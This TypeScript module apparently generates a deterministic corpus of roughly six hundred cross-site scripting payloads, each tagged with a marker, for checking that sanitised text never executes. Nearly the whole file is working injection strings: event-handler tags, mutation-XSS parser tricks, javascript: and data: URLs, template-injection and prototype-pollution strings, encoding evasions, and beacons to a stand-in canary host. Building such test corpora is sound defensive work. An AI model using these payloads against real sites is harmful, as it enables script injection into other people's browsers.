/**
 * Text that would run if any of it were ever taken for more than text. Made from its parts: what to run, what makes it run,
 * and what it hides in. Each has a number of its own, which also stands in it as plain text, `k17z`.
 */
export const canaryOrigin = 'https://canary.example';

/** What runs: each tells in another way that it did. */
const acts: readonly ((n: number) => string)[] = [
  (n) => `window.ran=${n}`,
  (n) => `alert(${n})`,
  (n) => `console.log('ran',${n})`,
  (n) => `fetch('${canaryOrigin}/${n}')`,
  (n) => `new Image().src='${canaryOrigin}/${n}'`,
  (n) => `document.body.setAttribute('data-ran',${n})`,
];

const handlers: readonly [tag: string, event: string, rest: string][] = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw="'],
  ['svg', 'onload', ''],
  ['body', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['video', 'onerror', 'src=x'],
  ['video', 'onloadstart', '><source src=x'],
  ['audio', 'onerror', 'src=x'],
  ['input', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['details', 'ontoggle', 'open'],
  ['marquee', 'onstart', ''],
  ['iframe', 'onload', ''],
  ['object', 'onerror', 'data=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['script', 'onerror', 'src=x'],
  ['style', 'onload', ''],
  ['div', 'onanimationstart', 'style="animation:spin 1s"'],
  ['div', 'onpointerenter', 'style="position:fixed;inset:0"'],
  ['button', 'onbeforetoggle', 'popover'],
  ['x-y', 'onfocusin', 'tabindex=0 autofocus'],
];

/** Ways to write one handler that a parser still reads and a filter may not. */
const writings: readonly ((tag: string, event: string, rest: string, js: string) => string)[] = [
  (tag, event, rest, js) => `<${tag} ${rest} ${event}="${js}">`,
  (tag, event, rest, js) => `<${tag.toUpperCase()}/${rest} ${event.toUpperCase()}=${js.replaceAll(' ', '')} >`,
  (tag, event, rest, js) => `"'><${tag}\n${rest}\t${event}='${js.replaceAll("'", '&#39;')}'//`,
];

/** Whole shapes, each around one act. */
const shapes: readonly ((js: string, n: number) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt >${js}</sCrIpT\n>`,
  (js) => `<script/x>${js}//`,
  (_js, n) => `<script src="${canaryOrigin}/${n}.js"></script>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (_js, n) => `<iframe src="${canaryOrigin}/${n}"></iframe>`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (_js, n) => `<embed src="${canaryOrigin}/${n}.svg">`,
  (js) => `<a href="javascript:${js}">open</a>`,
  (js) => `<a href="java\tscript:${js}">open</a>`,
  (js) => `<a href="&#106;avascript:${js}">open</a>`,
  (js) => `<form action="javascript:${js}"><button>Send</button></form>`,
  (js) => `<button formaction="javascript:${js}" form=x>Send</button>`,
  (_js, n) => `<base href="${canaryOrigin}/${n}/">`,
  (_js, n) => `<meta http-equiv=refresh content="0;url=${canaryOrigin}/${n}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (_js, n) => `<link rel=stylesheet href="${canaryOrigin}/${n}.css">`,
  (_js, n) => `<link rel=prefetch href="${canaryOrigin}/${n}">`,
  (_js, n) => `<img src="${canaryOrigin}/${n}.png">`,
  (_js, n) => `<img srcset="${canaryOrigin}/${n}.png 1x">`,
  (_js, n) => `<style>@import url(${canaryOrigin}/${n}.css);</style>`,
  (_js, n) => `<style>*{background:url(${canaryOrigin}/${n})}</style>`,
  (_js, n) => `<p style="background-image:url('${canaryOrigin}/${n}')">`,
  (js) => `<p style="width:expression(${js})">`,
  (js) => `<p style="behavior:url(javascript:${js})">`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script xlink:href="data:text/javascript,${js}"/></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
  (js) => `<svg><set attributeName=href to="javascript:${js}"/><a><text>open</text></a></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>open</text></a></svg>`,
  (_js, n) => `<svg><use href="${canaryOrigin}/${n}.svg#x"/></svg>`,
  (_js, n) => `<svg><image href="${canaryOrigin}/${n}.png"/></svg>`,
  (js) => `<svg><foreignObject><body onload="${js}"></foreignObject></svg>`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  (js) => `<math href="javascript:${js}">open</math>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  (js) => `<template><img src=x onerror=${js}></template>`,
  (js) => `<xmp><p title="</xmp><svg/onload=${js}>">`,
  (js) => `</textarea><img src=x onerror=${js}>`,
  (js) => `</title><svg onload=${js}>`,
  (js) => `--><img src=x onerror=${js}>`,
  (js) => `]]><img src=x onerror=${js}>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<![CDATA[<img src=x onerror=${js}>]]>`,
  (js) => `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></x>`,
  (js) => `" autofocus onfocus="${js}" x="`,
  (js) => `' onmouseover='${js.replaceAll("'", '`')}' x='`,
  (js) => `\` onpointermove=${js} \``,
  (js) => `';${js};//`,
  (js) => `");${js};("`,
  (js) => `</script><script>${js}</script>`,
  (js) => `\${${js}}`,
  (js) => `{{${js}}}`,
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `<%= ${js} %>`,
  (js) => `#{${js}}`,
  (js) => `{%25 ${js} %25}`,
  (js) => `[[\${${js}}]]`,
  (js) => `&lt;img src=x onerror=${js}&gt;`,
  (js) => `&#x3c;img src=x onerror=${js}&#x3e;`,
  (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
  (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `\\x3cimg src=x onerror=${js}\\x3e`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `\uff1cscript\uff1e${js}\uff1c/script\uff1e`,
  (js) => `\u2039img src=x onerror=${js}\u203a`,
  (js) => `<img src=x\u2028onerror=${js}>`,
  (js) => `<\u200bscript>${js}</script>`,
  (js) => `\u202e<img src=x onerror=${js}>\u202c`,
  (js) => `<scr\u0130pt>${js}</scr\u0130pt>`,
  (js) => `<\u017fcript>${js}</\u017fcript>`,
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` \u0001javascript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `javascript://%0a${js}`,
  (js) => `vbscript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  (js) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`,
  (js) => `blob:https://canary.example/${js}`,
  (_js, n) => `//canary.example/${n}`,
  (js) => `https://x@javascript:${js}`,
  (js) => `[open](javascript:${js})`,
  (_js, n) => `![picture](${canaryOrigin}/${n}.png)`,
  (js) => `<javascript:${js}>`,
  (js) => `[open]: data:text/html,<script>${js}</script>`,
  (_js, n) => `[[${canaryOrigin}/${n}|open]]`,
  (js) => `__proto__[innerHTML]=<img src=x onerror=${js}>`,
  (js) => `{"__html":"<img src=x onerror=${js}>"}`,
  (js) => `{"$$typeof":"react.element","type":"script","props":{"children":"${js}"}}`,
];

/** Six hundred and some; the same each time. */
export function scriptPayloads(): string[] {
  const made: string[] = [];
  const add = (write: (js: string, n: number) => string) => {
    const n = made.length;
    const act = acts[n % acts.length] ?? acts[0];
    made.push(`k${n}z ${write(act?.(n) ?? '', n)}`);
  };
  for (const [tag, event, rest] of handlers)
    for (const writing of writings) for (let turn = 0; turn < 2; turn += 1) add((js) => writing(tag, event, rest, js));
  for (let turn = 0; turn < 5; turn += 1) for (const shape of shapes) add(shape);
  return made;
}

/** The payload without what marks it, for a place that takes an address. */
export const bare = (payload: string) => payload.replace(/^k\d+z /, '');
